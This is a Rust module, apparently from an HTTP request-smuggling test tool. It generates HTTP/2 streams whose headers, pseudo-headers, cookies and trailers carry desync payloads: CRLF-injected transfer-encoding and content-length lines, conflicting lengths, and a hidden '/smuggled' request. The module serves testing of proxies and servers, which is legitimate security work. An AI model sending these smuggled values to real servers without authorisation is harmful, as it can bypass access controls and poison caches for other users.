//! What HTTP/2 can carry and HTTP/1.1 cannot: ends of lines, spaces and lengths that do not frame anything there.

use super::attack::{HIDDEN, ends_early};
use crate::support::{DATA, END_HEADERS, END_STREAM, HEADERS, frame};

type Field = (Vec<u8>, Vec<u8>);

/// One request, on stream 1.
pub struct Stream {
    pub name: String,
    fields: Vec<Field>,
    body: Option<Vec<u8>>,
    trailers: Vec<Field>,
}

const PSEUDO: [(&str, &str); 4] =
    [(":method", "POST"), (":scheme", "http"), (":authority", "smuggling.test"), (":path", "/attack")];

impl Stream {
    pub fn frames(&self) -> Vec<u8> {
        let flags = |is_last: bool| END_HEADERS | if is_last { END_STREAM } else { 0 };
        let mut frames = frame(HEADERS, flags(self.body.is_none()), 1, &block(&self.fields));
        if let Some(body) = &self.body {
            let is_last = self.trailers.is_empty();
            frames.extend(frame(DATA, if is_last { END_STREAM } else { 0 }, 1, body));
            if !is_last {
                frames.extend(frame(HEADERS, flags(true), 1, &block(&self.trailers)));
            }
        }
        frames
    }
}

/// Without compression: each a literal with a name of its own.
fn block(fields: &[Field]) -> Vec<u8> {
    let text = |text: &[u8]| {
        let length = u8::try_from(text.len()).expect("a short text");
        // From 127 on a second byte follows.
        let prefix = if length < 127 { vec![length] } else { vec![127, length - 127] };
        [&prefix[..], text].concat()
    };
    fields.iter().flat_map(|(name, value)| [vec![0], text(name), text(value)].concat()).collect()
}

fn field(name: &str, value: &str) -> Field {
    (name.into(), value.into())
}

/// What is put into a value, or behind a name.
const INSERTED: [&str; 9] = [
    "x\r\ntransfer-encoding: chunked\r\nx: x",
    "x\ntransfer-encoding: chunked",
    "x\rtransfer-encoding: chunked",
    "x\r\ncontent-length: 0",
    "x\0",
    "x\x7f",
    "x HTTP/1.1\r\nx: x",
    "x: x\r\nx",
    "x\x0b",
];

const FIELDS: [(&str, &str); 45] = [
    ("transfer-encoding", "chunked"),
    ("Transfer-Encoding", "chunked"),
    ("transfer-Encoding", "chunked"),
    ("transfer-encoding ", "chunked"),
    (" transfer-encoding", "chunked"),
    ("transfer-encoding", " chunked"),
    ("transfer-encoding", "identity"),
    ("transfer_encoding", "chunked"),
    ("content_length", "0"),
    ("transfer-encoding:chunked", "x"),
    ("transfer-encoding\u{a0}", "chunked"),
    (":transfer-encoding", "chunked"),
    ("te", "chunked"),
    ("te", "trailers, chunked"),
    ("connection", "transfer-encoding"),
    ("connection", "close"),
    ("connection", "content-length"),
    ("keep-alive", "timeout=1"),
    ("proxy-connection", "keep-alive"),
    ("upgrade", "h2c"),
    ("http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"),
    ("content-length", "0"),
    ("content-length", "5"),
    ("content-length", "20000"),
    ("content-length", "+5"),
    ("content-length", "-1"),
    ("content-length", "0x5"),
    ("content-length", ""),
    ("content-length", "5, 5"),
    ("content-length", "18446744073709551621"),
    ("", ""),
    ("", "x"),
    ("x", " x"),
    ("x", "x "),
    ("x y", "x"),
    ("x", "\tx"),
    ("expect", "100-continue"),
    ("expect", "y"),
    ("host", "other.test"),
    ("host", "smuggling.test"),
    (":authority", "other.test"),
    (":path", "/smuggled"),
    (":method", "GET"),
    (":scheme", "https"),
    (":status", "200"),
];

/// Instead of one that every request has.
const OTHERWISE: [(&str, &str); 24] = [
    (":method", "GET"),
    (":method", "HEAD"),
    (":method", "OPTIONS"),
    (":method", "CONNECT"),
    (":method", "TRACE"),
    (":method", "PO ST"),
    (":method", ""),
    (":method", "GET /smuggled HTTP/1.1"),
    (":scheme", ""),
    (":scheme", "http://smuggling.test/smuggled?"),
    (":scheme", "file"),
    (":authority", ""),
    (":authority", "smuggling.test/smuggled?"),
    (":authority", "user@smuggling.test"),
    (":authority", "smuggling.test smuggled"),
    (":authority", "smuggling.test, other.test"),
    (":path", ""),
    (":path", "smuggled"),
    (":path", "*"),
    (":path", "/attack HTTP/1.1"),
    (":path", "/attack /smuggled"),
    (":path", "/attack\t/smuggled"),
    (":path", "/attack#/smuggled"),
    (":path", "/attack%0d%0a%0d%0aGET%20/smuggled"),
];

pub fn attacks() -> Vec<Stream> {
    let mut attacks = Vec::new();
    let mut add = |name: String, fields: Vec<Field>, trailers: Vec<Field>| {
        let body = (!name.contains("no body")).then(|| ends_early().into_bytes());
        attacks.push(Stream { name: format!("HTTP/2: {name}"), fields, body, trailers });
    };
    let plain = || PSEUDO.map(|(name, value)| field(name, value)).to_vec();
    let with = |name: &str, value: &str| [plain(), vec![field(name, value)]].concat();
    let instead = |name: &str, value: &str| {
        plain().into_iter().map(|own| if own.0 == name.as_bytes() { field(name, value) } else { own }).collect()
    };
    add("nothing special".into(), plain(), vec![]);
    add("the whole length".into(), with("content-length", &ends_early().len().to_string()), vec![]);
    add("a length that reads as octal".into(), with("content-length", &format!("0{}", ends_early().len())), vec![]);
    add("two lengths".into(), [with("content-length", "5"), vec![field("content-length", "6")]].concat(), vec![]);
    let imitations = ["x_forwarded_for", "x_real_ip", "content_length"].map(|name| field(name, "192.0.2.1")).to_vec();
    add("several imitations".into(), [plain(), imitations].concat(), vec![]);
    for (name, value) in FIELDS {
        add(format!("{name:?}: {value:?}"), with(name, value), vec![]);
        add(format!("no body, {name:?}: {value:?}"), with(name, value), vec![]);
        let first = [vec![field(name, value)], plain()].concat();
        add(format!("first {name:?}: {value:?}"), first, vec![]);
        add(format!("trailer {name:?}: {value:?}"), plain(), vec![field(name, value)]);
    }
    for (name, value) in OTHERWISE {
        add(format!("{name} {value:?}"), instead(name, value), vec![]);
    }
    let whole = format!("x\r\n\r\n{HIDDEN}");
    for inserted in INSERTED.into_iter().chain([whole.as_str()]) {
        for (name, value) in PSEUDO {
            add(format!("{name} with {inserted:?}"), instead(name, &format!("{value}{inserted}")), vec![]);
        }
        add(format!("a value with {inserted:?}"), with("x", inserted), vec![]);
        add(format!("a cookie with {inserted:?}"), with("cookie", inserted), vec![]);
        add(format!("a name with {inserted:?}"), with(inserted, "x"), vec![]);
        add(format!("a trailer with {inserted:?}"), plain(), vec![field("x", inserted)]);
    }
    for (missing, _) in PSEUDO {
        let rest = plain().into_iter().filter(|(name, _)| name != missing.as_bytes()).collect();
        add(format!("no {missing}"), rest, vec![]);
    }
    attacks
}
